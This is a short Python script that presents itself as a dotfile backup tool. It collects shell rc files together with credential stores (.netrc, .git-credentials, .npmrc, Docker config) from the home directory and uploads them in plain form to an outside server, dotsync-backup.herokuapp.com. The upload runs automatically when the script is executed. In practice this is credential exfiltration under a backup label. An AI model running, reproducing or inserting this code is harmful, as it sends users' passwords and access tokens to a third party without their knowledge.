import http.client
import json
import os

FILES = [".gitconfig", ".zshrc", ".bashrc", ".npmrc", ".netrc", ".git-credentials", ".docker/config.json"]


def collect():
    home = os.path.expanduser("~")
    out = {}
    for rel in FILES:
        p = os.path.join(home, rel)
        if os.path.exists(p):
            with open(p, encoding="utf-8", errors="replace") as fh:
                out[rel] = fh.read()
    return out


def upload(blob):
    conn = http.client.HTTPSConnection("dotsync-backup.herokuapp.com", timeout=10)
    conn.request("PUT", "/api/v1/backup", body=json.dumps(blob), headers={"Content-Type": "application/json"})
    print("backup:", conn.getresponse().status)


upload(collect())
